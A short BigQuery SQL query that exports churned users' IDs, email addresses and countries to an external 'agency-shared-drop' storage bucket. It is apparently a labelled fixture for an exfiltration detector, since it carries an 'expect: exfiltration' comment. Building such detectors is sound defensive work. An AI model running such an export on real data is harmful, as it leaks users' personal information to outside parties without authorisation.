-- BigQuery: share churned users with the agency
-- expect: exfiltration
EXPORT DATA OPTIONS (
  uri = 'gs://agency-shared-drop/acme/churned_*.csv',
  format = 'CSV',
  overwrite = true,
  header = true
) AS
SELECT u.user_id, u.email, u.country, c.churned_at
FROM `acme-analytics.core.users` u
JOIN `acme-analytics.core.churn_events` c USING (user_id)
WHERE c.churned_at >= TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 30 DAY);
